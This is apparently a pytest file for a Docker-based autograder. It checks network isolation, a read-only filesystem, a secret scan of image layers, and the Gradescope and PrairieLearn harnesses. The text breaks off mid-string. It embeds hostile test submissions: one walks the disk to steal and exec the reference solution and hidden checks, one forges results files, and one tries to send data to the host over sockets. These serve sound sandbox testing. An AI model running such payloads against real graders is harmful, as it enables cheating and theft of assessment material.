"""Grading inside containers, with a real Docker engine: the grader image, one-container and
container-per-submission batches, hostile submissions, and the Gradescope and PrairieLearn harnesses.

The end-to-end tests skip (with the reason) only when no Docker engine answers `docker info`;
scripts/ci-prereqs.sh installs and starts one and builds the registry-free base image. They build
the grader image from this tree on the local base image (cached layers make that quick).
"""
from __future__ import annotations

import hashlib
import io
import json
import os
import re
import shutil
import tarfile
import time
import socket
import subprocess
import threading
import uuid
import zipfile
from pathlib import Path

import pytest

from autograder.deployment.docker import (
    DockerRunner, LOCAL_BASE_IMAGE, Limits, build_image, engine_problem, grade_command, grade_in_docker, image_exists,
    run_command,
)
from autograder.errors import AttnkitError
from autograder.deployment.export import export_gradescope, export_prairielearn
from autograder.feedback.formats.prairielearn import to_prairielearn
from autograder.feedback.formats.view import first_hint
from autograder.feedback.results import CheckResult, SubmissionResult
from autograder.grading.batch import grade_batch
from autograder.grading.session import GradeOptions

REPO = Path(__file__).resolve().parents[1]
REFERENCE = REPO / "solutions" / "attention" / "attention.py"
BLANK = REPO / "assignments" / "attention" / "attention.py"
CHECKS = REPO / "autograder" / "assignments" / "attention" / "checks"
WEIGHTS = REPO / "autograder" / "assignments" / "attention" / "reference" / "pronoun_model.pt"
# The tag the tests build and use: their own, so that they never replace an image someone runs.
TEST_IMAGE = os.environ.get("ATTNKIT_TEST_IMAGE", "attnkit-grader:test")


# --------------------------------------------------------------------------------------------
# fast tests: no engine needed
# --------------------------------------------------------------------------------------------
def test_grading_container_has_no_network_limits_read_only_root_and_one_writable_mount(tmp_path):
    args = run_command(image="img", limits=Limits(memory="3g", cpus=1.0, pids=256, tmpfs="512m"),
                       mounts=[(tmp_path / "sub.py", "/srv/attnkit/submissions/sub.py", False),
                               (tmp_path / "out", "/srv/attnkit/out", True)],
                       command=["grade", "x"], name="c1")
    joined = " ".join(args)
    assert "--network none" in joined and "--read-only" in args
    assert "--memory 3g" in joined and "--memory-swap 3g" in joined and "--pids-limit 256" in joined
    assert "--cpus 1" in joined and "/tmp:rw,nosuid,nodev,size=512m" in args
    mounts = [args[i + 1] for i, arg in enumerate(args) if arg == "--mount"]
    # the grader source (the image holds none), then the submission, read-only; the output writable
    assert [m.split("target=")[1].split(",")[0] for m in mounts[:3]] == ["/srv/attnkit/grader/autograder",
                                                                         "/srv/attnkit/grader/solutions",
                                                                         "/srv/attnkit/grader/assignments"]
    assert [m.endswith(",readonly") for m in mounts] == [True, True, True, True, False]
    assert args[-3:] == ["img", "grade", "x"]


def test_a_container_of_one_submission_writes_to_the_batchs_name_for_it(tmp_path):
    """alice.py and alice.zip in one batch: each container is told its own folder (alice.py/, alice.zip/)."""
    from autograder.grading.submission import output_names

    paths = [tmp_path / "alice.py", tmp_path / "alice.zip"]
    names = output_names(paths)
    commands = [grade_command(path, names[path], GradeOptions(seed=1)) for path in paths]
    assert [c[c.index("--name") + 1] for c in commands] == ["alice.py", "alice.zip"]


def test_grade_refuses_a_results_folder_name_that_is_not_one_folder(tmp_path, capsys):
    from autograder.cli import main

    (tmp_path / "alice.py").write_text("x = 1\n")
    assert main(["grade", str(tmp_path / "alice.py"), "--out", str(tmp_path / "out"), "--name", "../bob"]) != 0
    assert "--name '../bob': give one folder name" in capsys.readouterr().err
    assert not (tmp_path / "out").exists()


def test_grading_a_missing_submission_says_which_path(tmp_path):
    with pytest.raises(AttnkitError, match="nowhere.py: no such submission"):
        grade_in_docker(tmp_path / "nowhere.py", tmp_path / "out", GradeOptions(), image=TEST_IMAGE)
    with pytest.raises(AttnkitError, match="not a folder of submissions"):
        grade_batch(tmp_path / "nowhere", tmp_path / "out", runner=DockerRunner(image=TEST_IMAGE))


def _result(points: list[tuple[float, float]], **extra) -> SubmissionResult:
    checks = tuple(
        CheckResult(check_id=f"c{i}", name=f"check {i}", part="A", task="A.1", points=p, max_points=m,
                    status="passed" if p == m else "failed", message="" if p == m else f"wrong {i}",
                    visibility="hidden" if i == 2 else "visible")
        for i, (p, m) in enumerate(points))
    return SubmissionResult(submission="s", source="s.py", seed=1, checks=checks, **extra)


def test_prairielearn_score_is_a_fraction_and_hidden_messages_stay_hidden():
    payload = to_prairielearn(_result([(1, 1), (0, 2), (0, 1)]))
    assert payload["gradable"] is True and payload["score"] == pytest.approx(0.25)
    assert [t["points"] for t in payload["tests"]] == [1, 0, 0]
    assert [t["max_points"] for t in payload["tests"]] == [1, 2, 1]
    idea = first_hint("c1", "A.1")  # a failed visible check: its message, then its first-tier hint
    assert idea and payload["tests"][1]["message"] == f"wrong 1\nHint: {idea}"
    assert payload["tests"][2]["message"] == ""  # hidden: neither its message nor its hint
    json.dumps(payload)


def test_prairielearn_unreadable_submission_is_not_gradable():
    payload = to_prairielearn(_result([(0, 1)], grader_error="attention.py is not readable Python text"))
    assert payload["gradable"] is False
    assert payload["format_errors"] == ["Your submission could not be graded: attention.py is not readable Python text"]


def test_prairielearn_question_uses_the_image_and_its_entry_point(tmp_path):
    folder = export_prairielearn(tmp_path / "q", image="registry.example/attnkit-grader:1")
    info = json.loads((folder / "info.json").read_text())
    assert info["gradingMethod"] == "External"
    assert info["externalGradingOptions"]["image"] == "registry.example/attnkit-grader:1"
    assert info["externalGradingOptions"]["entrypoint"] == "/opt/attnkit/bin/entrypoint-prairielearn"
    assert 'file-names="attention.py, attention.ipynb, attention.zh.ipynb"' in (folder / "question.html").read_text()


# --------------------------------------------------------------------------------------------
# the engine, the image, hostile submissions
# --------------------------------------------------------------------------------------------
@pytest.fixture(scope="session")
def engine() -> None:
    problem = engine_problem()
    if problem:
        pytest.skip(f"Docker engine not reachable: {problem}. Run scripts/ci-prereqs.sh (as root)"
                    " to install and start one, then `make test`.")


@pytest.fixture(scope="session")
def image(engine) -> str:
    if not image_exists(LOCAL_BASE_IMAGE):
        subprocess.run([str(REPO / "docker" / "build-base.sh"), LOCAL_BASE_IMAGE], check=True)
    build_image(tag=TEST_IMAGE, base_image=LOCAL_BASE_IMAGE)
    return TEST_IMAGE


def _code_lines(text: str, shortest: int) -> list[str]:
    """Lines of code (no strings, no comments): text the grader never shows on purpose."""
    lines = [line.strip() for line in text.splitlines()]
    return [line for line in lines if len(line) >= shortest and not re.search(r"[\"'#]", line)]


def _secret_lines() -> list[str]:
    """Distinctive lines of code of the reference solution's answers and of the hidden checks."""
    release = BLANK.read_text()
    answers = re.findall(r"### BEGIN SOLUTION\n(.*?)### END SOLUTION", REFERENCE.read_text(), re.S)
    lines = [line for block in answers for line in _code_lines(block, 25) if line not in release
             and not re.fullmatch(r"self\.(\w+) = \1", line)]  # `self.num_heads = num_heads`: in any library
    for path in sorted(CHECKS.glob("*.py")):
        lines += _code_lines(path.read_text(), 50)
    assert len(lines) > 20, "too few secret lines to look for"
    return lines


def _texts(folder: Path) -> str:
    return "\n".join(p.read_text(errors="replace") for p in sorted(folder.rglob("*")) if p.is_file())


def _secret_digests() -> set[str]:
    """sha256 of every file of the grader source and reference solution (the weights included);
    tiny files (an empty __init__.py) are left out: an empty file is no secret."""
    files = [REFERENCE, WEIGHTS, *sorted((REPO / "autograder").rglob("*.py"))]
    return {hashlib.sha256(path.read_bytes()).hexdigest() for path in files if path.stat().st_size >= 64}


def _scan_layer(layer: tarfile.TarFile, lines: set[bytes], digests: set[str]) -> list[str]:
    """What of the secrets one image layer holds: 'path: line' or 'path: sha256'."""
    found = []
    for member in layer:
        if not member.isfile():
            continue
        data = layer.extractfile(member).read()
        if hashlib.sha256(data).hexdigest() in digests:
            found.append(f"{member.name}: a secret file, byte for byte")
        for line in lines.intersection(raw.strip() for raw in data.splitlines()):
            found.append(f"{member.name}: {line[:80]!r}")
    return found


def _scan_image(tag: str, workdir: Path) -> tuple[int, list[str]]:
    """(layers scanned, secrets found) over every layer of `docker save TAG`."""
    saved = workdir / "image.tar"
    subprocess.run(["docker", "save", "--output", str(saved), tag], check=True, timeout=600)
    lines = {line.encode() for line in _secret_lines()}
    digests = _secret_digests()
    layers, found = 0, []
    with tarfile.open(saved) as outer:
        for member in outer:
            if not member.isfile():
                continue
            handle = outer.extractfile(member)
            try:
                layer = tarfile.open(fileobj=handle)  # layer tars (plain or compressed); others raise
            except tarfile.TarError:
                continue
            with layer:
                layers += 1
                found += _scan_layer(layer, lines, digests)
    saved.unlink()
    return layers, found


def test_the_layer_scan_finds_a_planted_secret():
    """The control of the image scan: a layer holding the reference or a hidden check is caught."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as layer:
        for path, name in ((REFERENCE, "opt/x/attention.py"), (CHECKS / "part_a.py", "opt/x/renamed.txt")):
            data = path.read_bytes()
            info = tarfile.TarInfo(name)
            info.size = len(data)
            layer.addfile(info, io.BytesIO(data))
        blended = b"noise\n" + _secret_lines()[0].encode() + b"\nmore noise\n"
        info = tarfile.TarInfo("opt/x/blended.bin")
        info.size = len(blended)
        layer.addfile(info, io.BytesIO(blended))
    buffer.seek(0)
    with tarfile.open(fileobj=buffer) as layer:
        found = _scan_layer(layer, {line.encode() for line in _secret_lines()}, _secret_digests())
    assert any(f.startswith("opt/x/attention.py: a secret file") for f in found)
    assert any(f.startswith("opt/x/renamed.txt: ") for f in found)
    assert any(f.startswith("opt/x/blended.bin: ") for f in found)


@pytest.mark.docker
@pytest.mark.slow
def test_no_layer_of_the_public_image_holds_a_line_of_the_solution_or_hidden_checks(image, tmp_path):
    layers, found = _scan_image(image, tmp_path)
    assert layers >= 3, f"only {layers} layers read from docker save: the scan proves nothing"
    assert not found, f"secrets in the image: {found[:5]}"


THIEF = '''

# --- a hostile submission: look for the reference solution and the hidden checks, use them ---
import os as _os
_MARK = "### BEGIN " + "SOLUTION"  # spelled so that this file itself does not carry it
_TARGETS = ("attention.py", "mistakes.py", "plugin.py", "support.py", "pronoun_model.pt")
_found, _denied, _seen = [], 0, 0
_direct = ["/opt/attnkit/solutions/attention/attention.py", "/opt/attnkit/autograder/assignments/attention/checks/part_a.py",
           "/opt/attnkit/autograder/assignments/attention/reference/pronoun_model.pt", "/srv/attnkit/submissions/reference.py",
           "/proc/1/root/opt/attnkit/solutions/attention/attention.py"]
_candidates = list(_direct)
for _top, _dirs, _files in _os.walk("/", onerror=lambda error: None):
    _dirs[:] = [d for d in _dirs if _os.path.join(_top, d) not in ("/proc", "/sys", "/dev")
                and d not in ("site-packages", "__pycache__")]
    _seen += len(_files)
    _candidates += [_os.path.join(_top, f) for f in _files if f in _TARGETS or f.startswith("part_")
                    or (_top.startswith("/srv") and f.endswith(".py"))]
for _path in _candidates:
    try:
        with open(_path, "rb") as _handle:
            _data = _handle.read()
    except OSError:
        _denied += 1
        continue
    _text = _data.decode("utf-8", "replace")
    if _MARK in _text or _os.path.basename(_path).startswith("part_") or _path.endswith(".pt"):
        _found.append(_path)
        print("STOLEN", _path, _text[:20000])
print(f"THIEF-RAN seen={_seen} candidates={len(_candidates)} denied={_denied} found={len(_found)}")
for _path in _found:
    if _path.endswith(".py") and _MARK in open(_path).read():
        exec(compile(open(_path).read(), _path, "exec"), globals())  # the stolen answers replace the stubs
'''

FAKER = '''

# --- a hostile submission: write a perfect results file wherever one might be read ---
import json as _json, os as _os
_fake = {"score": 1000, "output": "FAKE-RESULT", "tests": [{"score": 1000, "max_score": 1, "name": "FAKE-RESULT"}]}
_written = []
for _folder in ("/srv/attnkit/out", "/srv/attnkit/out/faker", "/autograder/results", "/grade/results",
                "/tmp", _os.getcwd(), "/srv/attnkit/out/reference"):
    for _name in ("results.json", "attnkit.json"):
        try:
            _os.makedirs(_folder, exist_ok=True)
            with open(_os.path.join(_folder, _name), "w") as _handle:
                _json.dump(_fake, _handle)
            _written.append(_os.path.join(_folder, _name))
        except OSError:
            pass
print("FAKER-RAN wrote", _written)
'''


def _net_probe(port: int, hosts: list[str]) -> str:
    return f'''

# --- a hostile submission: reach the grading machine over the network ---
import socket as _socket
for _host in {hosts!r}:
    try:
        with _socket.create_connection((_host, {port}), timeout=3) as _connection:
            _connection.sendall(b"LEAK attention answers")
        print("NET-PROBE", _host, "connected")
    except OSError as _error:
        print("NET-PROBE", _host, "failed", type(_error).__name__)
try:
    _socket.getaddrinfo("pypi.org", 443)
    print("NET-PROBE dns resolved")
except OSError as _error:
    print("NET-PROBE dns failed", type(_error).__name__)
'''


class Listener:
    """A TCP listener on all of the host's interfaces that records every connection it accepts."""

    def __init__(self) -> None:
        self.server = socket.create_server(("0.0.0.0", 0))
        self.server.settimeout(0.5)
        self.port = self.server.getsockname()[1]
        self.received: list[bytes] = []
        self.stopped = threading.Event()
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        while not self.stopped.is_set():
            try:
                connection, _ = self.server.accept()
            except OSError:
                continue
            with connection:
                connection.settimeout(2)
                try:
                    self.received.append(connection.recv(1024) or b"(connected)")
                except OSError:
                    self.received.append(b"(connected)")

    def close(self) -> None:
        self.stopped.set()
        self.thread.join()
        self.server.close()


def _bridge_gateway() -> str:
    """The host's address on Docker's default bridge (IPAM leaves it out on some engines)."""
    done = subprocess.run(["docker", "network", "inspect", "bridge", "--format",
                           "{{range .IPAM.Config}}{{.Gateway}}{{end}}"], capture_output=True, text=True)
    return done.stdout.strip() or "172.17.0.1"


@pytest.fixture(scope="module")
def listener(engine):
    server = Listener()
    yield server
    server.close()


@pytest.fixture(scope="module")
def batch(image, listener, tmp_path_factory):
    """One container grades a reference, the blank release and three hostile submissions."""
    root = tmp_path_factory.mktemp("docker-batch")
    inbox = root / "submissions"
    inbox.mkdir()
    blank = BLANK.read_text()
    shutil.copyfile(REFERENCE, inbox / "reference.py")
    (inbox / "blank.py").write_text(blank)
    (inbox / "thief.py").write_text(blank + THIEF)
    (inbox / "faker.py").write_text(blank + FAKER)
    hosts = ["127.0.0.1", _bridge_gateway(), "host.docker.internal"]
    (inbox / "netprobe.py").write_text(blank + _net_probe(listener.port, hosts))
    out = root / "out"
    result = grade_batch(inbox, out, options=GradeOptions(seed=11), runner=DockerRunner(image=image, jobs=2))
    return {r.submission: r for r in result.submissions}, out, inbox


@pytest.mark.docker
@pytest.mark.slow
def test_reference_gets_full_marks_in_one_batch_container(batch):
    results, out, _ = batch
    reference = results["reference"]
    assert not reference.grader_error
    assert reference.score == reference.max_score > 0
    gradescope = json.loads((out / "reference" / "results.json").read_text())
    assert gradescope["score"] == reference.score


@pytest.mark.docker
@pytest.mark.slow
def test_blank_release_gets_zero_in_container(batch):
    blank = batch[0]["blank"]
    assert blank.max_score > 0 and blank.score == 0


@pytest.mark.docker
@pytest.mark.slow
def test_submission_hunting_for_the_reference_and_hidden_checks_finds_nothing(batch):
    results, out, _ = batch
    thief = results["thief"]
    assert "THIEF-RAN" in thief.output, "the hostile code did not run, so this test proves nothing"
    counts = dict(re.findall(r"(\w+)=(\d+)", thief.output.split("THIEF-RAN", 1)[1].splitlines()[0]))
    assert int(counts["seen"]) > 1000 and int(counts["denied"]) >= 4  # it walked the disk, was refused
    assert counts["found"] == "0" and "STOLEN" not in thief.output
    assert thief.score == 0
    # Lines the grader also shows the blank release are its own messages, not something stolen.
    thief_texts, blank_texts = _texts(out / "thief"), _texts(out / "blank")
    leaked = [line for line in _secret_lines() if line in thief_texts and line not in blank_texts]
    assert not leaked, f"secret text in the thief's results: {leaked[:3]}"


@pytest.mark.docker
@pytest.mark.slow
def test_submission_cannot_reach_a_listener_on_the_host(batch, listener, image):
    netprobe = batch[0]["netprobe"]
    assert "NET-PROBE" in netprobe.output, "the network probe did not run"
    assert "connected" not in netprobe.output and "dns resolved" not in netprobe.output
    assert netprobe.score == 0
    assert listener.received == []
    # The control: the same probe from a container with a network reaches the listener, so the
    # listener was reachable and the silence above is the grading container's doing.
    probe = (f"import socket; c = socket.create_connection(('{_bridge_gateway()}', {listener.port}), timeout=5);"
             " c.sendall(b'control'); c.close()")
    subprocess.run(["docker", "run", "--rm", "--network", "bridge", "--entrypoint", "python", image, "-c", probe],
                   check=True, capture_output=True, timeout=120)
    for _ in range(20):
        if listener.received:
            break
        threading.Event().wait(0.25)
    assert listener.received == [b"control"]
    listener.received.clear()


@pytest.mark.docker
@pytest.mark.slow
def test_with_networking_on_student_code_cannot_reach_a_listener_on_the_hosts_loopback(image, tmp_path):
    """As on Gradescope: the container has the network (here the host's own, --network host) and
    Docker's default seccomp profile refuses namespaces, so the worker's seccomp filter is all that
    stands between student code and the listener."""
    server = socket.create_server(("127.0.0.1", 0))
    server.settimeout(0.5)
    port = server.getsockname()[1]
    inbox, out = tmp_path / "in", tmp_path / "out"
    inbox.mkdir()
    out.mkdir()
    (inbox / "netprobe.py").write_text(BLANK.read_text() + _net_probe(port, ["127.0.0.1", "localhost"]))
    source = [f"type=bind,source={REPO / tree},target=/srv/attnkit/grader/{tree},readonly"
              for tree in ("autograder", "solutions")]
    mounts = [*source, f"type=bind,source={inbox},target=/srv/attnkit/submissions,readonly",
              f"type=bind,source={out},target=/srv/attnkit/out"]
    try:
        done = subprocess.run(
            ["docker", "run", "--rm", "--network", "host", *[a for m in mounts for a in ("--mount", m)],
             image, "grade", "/srv/attnkit/submissions/netprobe.py", "--out", "/srv/attnkit/out", "--seed", "3"],
            capture_output=True, text=True, timeout=600)
        assert done.returncode == 0, done.stdout + done.stderr
        result = json.loads((out / "netprobe" / "attnkit.json").read_text())
        accepted = []
        while True:
            try:
                accepted.append(server.accept()[0].recv(64))
            except OSError:
                break
        assert "NET-PROBE 127.0.0.1 failed PermissionError" in result["output"], result["output"]
        assert "connected" not in result["output"] and "dns resolved" not in result["output"]
        assert accepted == []
        # The control: the grader's own Python in the same kind of container reaches the listener.
        probe = f"import socket; socket.create_connection(('127.0.0.1', {port}), timeout=5).sendall(b'control')"
        subprocess.run(["docker", "run", "--rm", "--network", "host", "--entrypoint", "python", image, "-c", probe],
                       check=True, capture_output=True, timeout=120)
        connection, _ = server.accept()
        assert connection.recv(64) == b"control"
        connection.close()
    finally:
        server.close()


@pytest.mark.docker
@pytest.mark.slow
def test_fake_results_written_by_a_submission_gain_nothing(batch):
    results, out, _ = batch
    faker = results["faker"]
    assert "FAKER-RAN" in faker.output
    assert faker.score == 0
    for path in out.rglob("*.json"):
        assert "FAKE-RESULT" not in path.read_text(errors="replace"), path
    assert json.loads((out / "faker" / "results.json").read_text())["score"] == 0


@pytest.mark.docker
@pytest.mark.slow
def test_integrity_strict_reaches_the_grading_container(image, tmp_path):
    """A correct softmax by a library route (softmin): recorded, and its part zeroed under strict."""
    bypass = tmp_path / "softmin.py"
    bypass.write_text(REFERENCE.read_text() + "\n\n" + (REPO / "tests" / "bypass" / "softmin.py").read_text())
    result = grade_in_docker(bypass, tmp_path / "out", GradeOptions(seed=0, integrity="strict"), image=image)
    parts = {p.part: p.score for p in result.parts}
    assert result.flags and parts["A"] == 0 and parts["B"] > 0


@pytest.mark.docker
@pytest.mark.slow
def test_container_per_submission_matches_the_one_container_batch(batch, image, tmp_path):
    results, _, inbox = batch
    small = tmp_path / "submissions"
    small.mkdir()
    for name in ("reference.py", "blank.py"):
        shutil.copyfile(inbox / name, small / name)
    each = grade_batch(small, tmp_path / "out", options=GradeOptions(seed=11), runner=DockerRunner(image=image, jobs=2, per_submission=True))
    scores = {r.submission: r.score for r in each.submissions}
    assert scores == {"reference": results["reference"].score, "blank": 0}


@pytest.mark.docker
@pytest.mark.slow
def test_container_per_submission_keeps_same_stem_submissions_apart(image, tmp_path):
    """alice.py and alice.zip, each in its own container, get the folders the local paths give them."""
    inbox = tmp_path / "submissions"
    inbox.mkdir()
    (inbox / "alice.py").write_text("def causal_mask(size_q, size_k=None, device=None):\n    raise NotImplementedError\n")
    with zipfile.ZipFile(inbox / "alice.zip", "w") as archive:
        archive.writestr("attention.py", "import torch\n\ndef causal_mask(size_q, size_k=None, device=None):\n"
                                         "    size_k = size_q if size_k is None else size_k\n"
                                         "    return torch.ones(size_q, size_k, dtype=torch.bool, device=device).tril()\n")
    out = tmp_path / "out"
    options = GradeOptions(seed=5, parts=frozenset({"A"}))
    graded = grade_batch(inbox, out, options=options, runner=DockerRunner(image=image, jobs=2, per_submission=True))
    by_name = {r.submission: r for r in graded.submissions}
    assert set(by_name) == {"alice.py", "alice.zip"}
    assert by_name["alice.zip"].score > by_name["alice.py"].score  # two results, not one written twice
    for name in by_name:
        assert json.loads((out / name / "attnkit.json").read_text())["submission"] == name


@pytest.mark.docker
@pytest.mark.slow
def test_grading_container_root_is_read_only_and_secrets_are_root_only(image, tmp_path):
    out = tmp_path / "out"
    out.mkdir()
    script = ("touch /opt/attnkit/x 2>/dev/null && echo ROOTFS-WRITABLE; touch /tmp/x && echo TMP-OK;"
              " touch /srv/attnkit/out/x && echo OUT-OK;"
              " ls /srv/attnkit/grader/autograder/assignments/attention/checks/part_a.py >/dev/null && echo SOURCE-MOUNTED;"
              " setpriv --reuid 10001 --regid 10001 --clear-groups sh -c"
              " 'cat /srv/attnkit/grader/solutions/attention/attention.py >/dev/null 2>&1 && echo SOLUTION-READABLE;"
              "  ls /srv/attnkit/grader/autograder/assignments/attention/checks >/dev/null 2>&1 && echo CHECKS-READABLE;"
              "  ls /srv/attnkit >/dev/null 2>&1 && echo SRV-READABLE;"
              "  python -c \"import torch\" && echo STUDENT-PYTHON-OK'")
    args = run_command(image=image, limits=Limits(), mounts=[(out, "/srv/attnkit/out", True)],
                       command=["-c", script], name=f"attnkit-test-fs-{uuid.uuid4().hex[:8]}", entrypoint="sh")
    done = subprocess.run(["docker", *args], capture_output=True, text=True, timeout=300)
    assert done.stdout.split() == ["TMP-OK", "OUT-OK", "SOURCE-MOUNTED", "STUDENT-PYTHON-OK"], done.stdout + done.stderr


# --------------------------------------------------------------------------------------------
# the platforms' harnesses, simulated
# --------------------------------------------------------------------------------------------
GRADESCOPE_HARNESS = r"""
set -eu
mkdir -p /autograder/source /autograder/results /autograder/submission
# unzip, keeping the files' modes as Gradescope does
python3 -c 'import os, sys, zipfile
archive = zipfile.ZipFile(sys.argv[1])
for info in archive.infolist():
    archive.extract(info, sys.argv[2])
    os.chmod(os.path.join(sys.argv[2], info.filename), info.external_attr >> 16 & 0o777 or 0o644)
' /input/autograder.zip /autograder/source
start=$(date +%s.%N)
cd /autograder/source && bash ./setup.sh > /output/setup.log 2>&1
echo "setup $(python3 -c "import time; print(round(time.time() - $start, 1))")" >> /output/times
cp /autograder/source/run_autograder /autograder/run_autograder
for name in reference faker reference_zh; do
    rm -rf /autograder/submission/* /autograder/results/*
    cp /input/$name.py /autograder/submission/attention.py
    options=""
    [ "$name" = reference_zh ] && options="--lang zh --seed 9"
    start=$(date +%s.%N)
    cd /autograder && ATTNKIT_GRADE_OPTIONS="$options" ./run_autograder > /output/$name.log 2>&1 \
        || echo "run_autograder failed: $name"
    echo "$name $(python3 -c "import time; print(round(time.time() - $start, 1))")" >> /output/times
    cp /autograder/results/results.json /output/$name.json
    ls -la /autograder/results /autograder/source >> /output/$name.log
done
for secret in /autograder/source/attnkit/solutions/attention/attention.py /opt/attnkit/solutions/attention/attention.py \
        /opt/attnkit/autograder/assignments/attention/checks/part_a.py; do
    setpriv --reuid 10001 --regid 10001 --clear-groups cat "$secret" >/dev/null 2>&1 && echo "READABLE $secret"
done
setpriv --reuid 10001 --regid 10001 --clear-groups cat /opt/attnkit/assignments/attention/attention.py >/dev/null \
    && echo "PUBLIC-READABLE"
"""
# Gradescope's default autograder machine: 0.5 CPU and 768 MB of memory.
GRADESCOPE_LIMITS = ["--cpus", "0.5", "--memory", "768m", "--memory-swap", "768m"]
# attnkit-base:jammy (docker/build-base.sh TAG jammy) stands in for Gradescope's Ubuntu 22.04 base:
# no Python 3.11, so setup.sh must apt-get it (with the network, as Gradescope's setup has).
UBUNTU_BASE_IMAGE = "attnkit-base:jammy"


@pytest.mark.docker
@pytest.mark.slow
@pytest.mark.parametrize("base, network", [(LOCAL_BASE_IMAGE, "none"), (UBUNTU_BASE_IMAGE, "bridge")],
                         ids=["debian-offline", "ubuntu-22.04"])
def test_gradescope_harness_runs_setup_then_grades_under_gradescopes_default_limits(engine, tmp_path, base, network):
    if not image_exists(base):
        suite = "jammy" if base == UBUNTU_BASE_IMAGE else "bookworm"
        subprocess.run([str(REPO / "docker" / "build-base.sh"), base, suite], check=True)
    inputs, outputs = tmp_path / "in", tmp_path / "out"
    inputs.mkdir()
    outputs.mkdir()
    zip_path = export_gradescope(inputs / "autograder.zip")
    with zipfile.ZipFile(zip_path) as archive:
        names = set(archive.namelist())
        assert {"setup.sh", "run_autograder"} <= names
        assert archive.getinfo("run_autograder").external_attr >> 16 & 0o111
        wheels = [n for n in names if n.startswith("wheelhouse/") and n.endswith(".whl")]
        assert any(re.fullmatch(r"wheelhouse/torch-[\d.]+\+cpu-cp311-cp311-manylinux[\w.]*x86_64\.whl", n) for n in wheels)
        foreign = [n for n in wheels if not (n.endswith("-none-any.whl") or ("cp311" in n and "x86_64" in n))]
        assert not foreign, f"wheels Gradescope cannot install: {foreign}"
    shutil.copyfile(REFERENCE, inputs / "reference.py")
    shutil.copyfile(REFERENCE, inputs / "reference_zh.py")
    (inputs / "faker.py").write_text(BLANK.read_text() + FAKER)
    done = subprocess.run(
        ["docker", "run", "--rm", "--network", network, *GRADESCOPE_LIMITS,
         "--mount", f"type=bind,source={inputs},target=/input,readonly",
         "--mount", f"type=bind,source={outputs},target=/output",
         base, "bash", "-c", GRADESCOPE_HARNESS],
        capture_output=True, text=True, timeout=1800)
    logs = "".join(p.read_text(errors="replace") for p in sorted(outputs.glob("*.log")))
    assert done.returncode == 0 and "failed" not in done.stdout, done.stdout + done.stderr + logs
    print(f"Gradescope harness on {base} at 0.5 CPU / 768 MB, seconds:", (outputs / "times").read_text().split(),
          f"zip {zip_path.stat().st_size / 1e6:.0f} MB")
    # The unpacked zip and the installed secrets are root-only; the public release is not.
    assert "PUBLIC-READABLE" in done.stdout and "READABLE /" not in done.stdout
    reference = json.loads((outputs / "reference.json").read_text())
    assert reference["score"] == sum(t["max_score"] for t in reference["tests"]) > 0
    # What students see: the Markdown feedback with their heatmaps, in the language asked for.
    assert reference["output_format"] == "md" and "data:image/png;base64," in reference["output"]
    assert len(json.dumps(reference).encode()) < 1_000_000
    chinese = json.loads((outputs / "reference_zh.json").read_text())
    assert chinese["score"] == reference["score"] and "得分" in chinese["output"] and chinese["extra_data"]["seed"] == 9
    faker = json.loads((outputs / "faker.json").read_text())
    assert faker["score"] == 0 and "FAKE-RESULT" not in json.dumps(faker)


HOST_CA_BUNDLE = Path("/etc/ssl/certs/ca-certificates.crt")
ONLINE_HARNESS = r"""
set -eu
mkdir -p /autograder/source /autograder/submission /autograder/results
python3 -c 'import os, sys, zipfile
archive = zipfile.ZipFile(sys.argv[1])
for info in archive.infolist():
    archive.extract(info, sys.argv[2])
    os.chmod(os.path.join(sys.argv[2], info.filename), info.external_attr >> 16 & 0o777 or 0o644)
' /input/autograder.zip /autograder/source
cd /autograder/source && bash ./setup.sh > /output/setup.log 2>&1
cp /input/reference.py /autograder/submission/attention.py
cp /autograder/source/run_autograder /autograder/run_autograder
cd /autograder && ./run_autograder > /output/run.log 2>&1
cp /autograder/results/results.json /output/results.json
"""


@pytest.mark.docker
@pytest.mark.slow
def test_the_online_gradescope_zip_installs_from_the_package_index_on_ubuntu(engine, tmp_path):
    """The small zip's setup.sh installs from PyPI. PyTorch's CPU index is not reachable from this
    machine, so the torch wheel comes from a local folder standing in for it (PIP_FIND_LINKS)."""
    if not image_exists(UBUNTU_BASE_IMAGE):
        pytest.skip(f"{UBUNTU_BASE_IMAGE} is not built: docker/build-base.sh {UBUNTU_BASE_IMAGE} jammy")
    from autograder.deployment.docker import GRADESCOPE_TARGET, wheelhouse_for

    torch_wheels = sorted(wheelhouse_for(GRADESCOPE_TARGET).glob("torch-*+cpu-*.whl"))
    if not torch_wheels:
        pytest.skip("no torch +cpu wheel in docker/wheelhouse/cp311-x86_64: run attnkit export gradescope once")
    inputs, outputs, torch_index = tmp_path / "in", tmp_path / "out", tmp_path / "torch"
    for folder in (inputs, outputs, torch_index):
        folder.mkdir()
    shutil.copyfile(torch_wheels[0], torch_index / torch_wheels[0].name)
    zip_path = export_gradescope(inputs / "autograder.zip", online=True)
    shutil.copyfile(REFERENCE, inputs / "reference.py")
    certs = ["--mount", f"type=bind,source={HOST_CA_BUNDLE},target=/host-ca.crt,readonly",
             "--env", "PIP_CERT=/host-ca.crt"] if HOST_CA_BUNDLE.is_file() else []
    done = subprocess.run(
        ["docker", "run", "--rm", "--network", "bridge", *GRADESCOPE_LIMITS, *certs,
         "--env", "ATTNKIT_TORCH_INDEX=", "--env", "PIP_FIND_LINKS=/torch-index",
         "--mount", f"type=bind,source={inputs},target=/input,readonly",
         "--mount", f"type=bind,source={torch_index},target=/torch-index,readonly",
         "--mount", f"type=bind,source={outputs},target=/output",
         UBUNTU_BASE_IMAGE, "bash", "-c", ONLINE_HARNESS],
        capture_output=True, text=True, timeout=1800)
    logs = "".join(p.read_text(errors="replace") for p in sorted(outputs.glob("*.log")))
    assert done.returncode == 0, done.stdout + done.stderr + logs[-3000:]
    results = json.loads((outputs / "results.json").read_text())
    assert results["score"] == sum(t["max_score"] for t in results["tests"]) > 0
    print(f"online zip {zip_path.stat().st_size / 1e6:.2f} MB installed and graded the reference")


# PrairieLearn's grader host runs each job so (its createContainer options): the job folder
# mounted at /grade, no network, 1 GiB of memory and no swap, 0.9 CPU, 1024 pids, private IPC;
# it reads /grade/results/results.json only when the entry point exits 0.
PRAIRIELEARN_LIMITS = ["--network", "none", "--memory", "1g", "--memory-swap", "1g", "--cpus", "0.9",
                       "--pids-limit", "1024", "--ipc", "private"]

PL_READER = '''

# --- a hostile submission: read the question's tests/ folder, fake the results ---
